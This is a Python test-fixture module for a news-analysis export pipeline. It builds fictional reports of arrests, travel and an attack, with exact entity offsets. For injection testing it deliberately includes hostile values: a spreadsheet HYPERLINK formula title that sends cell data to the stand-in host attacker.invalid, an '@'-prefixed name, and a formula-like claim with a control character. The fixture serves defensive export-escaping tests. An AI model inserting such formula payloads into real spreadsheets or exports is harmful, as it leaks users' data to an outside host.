"""Stores for the export tests (no tests here): records written by hand (exact offsets, hostile names and titles)
and short reports of our own through the real pipeline."""

from __future__ import annotations

import hashlib
from typing import Any

from newsintel.model import DocumentInfo, Entity, Mention, Record, Sentence

HOSTILE_TITLE = '=HYPERLINK("http://attacker.invalid/?x="&A1,"open")'
HOSTILE_PERSON = "@Tarik Vesel"  # a handle-like name: a spreadsheet reads a leading @ as a formula


class _Builder:
    """Appends text and keeps the offsets of named spans."""

    def __init__(self, doc_key: str) -> None:
        self.parts: list[str] = []
        self.entities: dict[str, Entity] = {}
        self.doc_key = doc_key

    @property
    def offset(self) -> int:
        return sum(len(p) for p in self.parts)

    def put(self, text: str, type_: str | None = None, sentence: int = 0, geo: dict | None = None) -> dict:
        start = self.offset
        self.parts.append(text)
        if type_ is None:
            return {}
        key = f"{self.doc_key}-e{len(self.entities)}"
        entity = self.entities.setdefault(text, Entity(id=key, name=text, type=type_, geo=geo))
        entity.mentions.append(Mention(text, start, start + len(text), sentence, type_))
        return {"text": text, "entity": entity.id}


def _arg(ref: dict) -> dict:
    return dict(ref)


def _event(type_: str, trigger: str, sentence: int, start: int, end: int, **roles: Any) -> dict[str, Any]:
    event = {"type": type_, "plover": "OTHER", "trigger": trigger, "actors": [], "targets": [], "location": [],
             "origin": [], "destination": [], "via": [], "time": None, "modality": "asserted", "attribution": None,
             "sentence": sentence, "start": start, "end": end, "confidence": 0.8}
    event.update(roles)
    return event


def hand_records() -> list[Record]:
    """Three reports: a group and its member, a movement between two geocoded towns (dated to a month), a
    family relation, an arrest, and hostile text in a title, a name, a claim and a control character."""
    out = []
    # 1: member of a group, arrest, claim with a formula
    b = _Builder("d1")
    s0 = b.offset
    person = b.put("Ardian Berisha", "PERSON")
    b.put(" is a member of the ")
    group = b.put("Black Lake Brigade", "ORG")
    b.put(", prosecutors said. ")
    s1 = b.offset
    police = b.put("Veldor Police", "ORG", 1)
    b.put(" arrested ")
    person2 = b.put("Ardian Berisha", "PERSON", 1)
    b.put(" and ")
    hostile = b.put(HOSTILE_PERSON, "PERSON", 1)
    b.put(" on Monday. ")
    s2 = b.offset
    speaker = b.put("Mira Sokoli", "PERSON", 2)
    b.put(' said: "')
    c_start = b.offset
    b.put("-1+2 men remain at large\x07 & <free>")
    c_end = b.offset
    b.put('." ')
    text = "".join(b.parts)
    events = [_event("ARREST", "arrested", 1, s1 + 14, s1 + 22, actors=[_arg(police)],
                     targets=[_arg(person2), _arg(hostile)],
                     attribution={"speaker": {"text": "prosecutors", "entity": None}, "cue": "said"})]
    claims = [{"speaker": {"text": "Mira Sokoli", "entity": speaker["entity"]}, "cue": "said",
               "content": text[c_start:c_end], "medium": None, "modality": "asserted", "sentence": 2,
               "start": c_start, "end": c_end, "confidence": 0.9}]
    relations = [{"type": "MEMBER", "subject": person, "object": group, "role": "member", "sentence": 0,
                  "start": s0, "end": s1 - 2, "confidence": 0.85}]
    out.append(_record(b, "d1", HOSTILE_TITLE, "2024-03-04", [(s0, s1), (s1, s2), (s2, len(text))], events,
                       claims, relations))
    # 2: a movement between two towns, dated May 2024, hedged
    b = _Builder("d2")
    s0 = b.offset
    mover = b.put("Ardian Berisha", "PERSON")
    b.put(" reportedly travelled from ")
    origin = b.put("Prizren", "GPE", geo={"name": "Prizren", "lat": 42.21389, "lon": 20.73972,
                                           "geonameid": 786714, "country": "XK", "kind": "city"})
    b.put(" to ")
    destination = b.put("Gaziantep", "GPE", geo={"name": "Gaziantep", "lat": 37.05944, "lon": 37.3825,
                                                  "geonameid": 314830, "country": "TR", "kind": "city"})
    b.put(" in May 2024 with his brother ")
    brother = b.put("Luan Berisha", "PERSON")
    b.put(". ")
    text = "".join(b.parts)
    move = _event("TRAVEL", "travelled", 0, s0 + 26, s0 + 35, actors=[_arg(mover)], origin=[_arg(origin)],
                  destination=[_arg(destination)], modality="hedged",
                  time={"text": "May 2024", "start": 0, "end": 0, "value": "2024-05-01/2024-05-31",
                        "precision": "month"})
    family = {"type": "FAMILY", "subject": mover, "object": brother, "role": "brother", "sentence": 0,
              "start": s0, "end": len(text) - 2, "confidence": 0.8}
    out.append(_record(b, "d2", "Suspect left Prizren, court hears", "2024-06-10T09:30:00+02:00",
                       [(s0, len(text))], [move], [], [family]))
    # 3: the group again, with the member, at a place
    b = _Builder("d3")
    s0 = b.offset
    b.put("The ")
    group3 = b.put("Black Lake Brigade", "ORG")
    b.put(" and ")
    person3 = b.put("Ardian Berisha", "PERSON")
    b.put(" attacked ")
    target3 = b.put("Veldor Police", "ORG")
    b.put(" in ")
    place3 = b.put("Prizren", "GPE", geo={"name": "Prizren", "lat": 42.21389, "lon": 20.73972,
                                          "geonameid": 786714, "country": "XK", "kind": "city"})
    b.put(". ")
    text = "".join(b.parts)
    attack = _event("ATTACK", "attacked", 0, text.index("attacked"), text.index("attacked") + 8,
                    actors=[_arg(group3), _arg(person3)], targets=[_arg(target3)], location=[_arg(place3)])
    out.append(_record(b, "d3", "Brigade blamed for attack", "2024-07-01", [(s0, len(text))], [attack], [], []))
    return out


def _record(b: _Builder, key: str, title: str, published: str, spans: list[tuple[int, int]],
            events: list[dict], claims: list[dict], relations: list[dict]) -> Record:
    text = "".join(b.parts)
    doc_id = hashlib.sha256(text.encode()).hexdigest()[:16]

    def fix(ref: dict) -> dict:
        if ref.get("entity"):
            ref["entity"] = ref["entity"].replace(key, doc_id, 1)
        return ref

    for entity in b.entities.values():
        entity.id = entity.id.replace(key, doc_id, 1)
    for event in events:
        for role in ("actors", "targets", "location", "origin", "destination", "via"):
            event[role] = [fix(a) for a in event[role]]
    for claim in claims:
        fix(claim["speaker"])
    for relation in relations:
        fix(relation["subject"])
        fix(relation["object"])
    info = DocumentInfo(id=doc_id, title=title, source="Test Wire", url=f"https://news.example.org/{key}",
                        published=published, text=text, origin=f"hand/{key}.txt", format="txt", language="en")
    return Record(document=info, sentences=[Sentence(i, s, e) for i, (s, e) in enumerate(spans)],
                  entities=list(b.entities.values()), events=events, claims=claims, relations=relations)


REPORTS = {
    "harbour.txt": "Customs officers in Durres detained Kastriot Lleshi, 41, a commander of the Red Valley "
                   "Front, on Friday, the prosecutor's office said. Lleshi had travelled from Tirana to Durres "
                   "by bus, officers said.\n",
    "court.txt": "Prosecutor Elira Gashi said Kastriot Lleshi met Dren Morina in Tirana in March 2023. Morina, "
                 "a member of the Red Valley Front, is believed to have fled to Greece.\n",
}


def pipeline_records() -> list[Record]:
    from newsintel.annotate import annotate
    from newsintel.clean import clean
    from newsintel.model import RawDocument

    raws = [clean(RawDocument(name, "txt", "h-" + name, text=text, source="Test Wire", published="2024-09-02"))
            for name, text in REPORTS.items()]
    return list(annotate(raws))
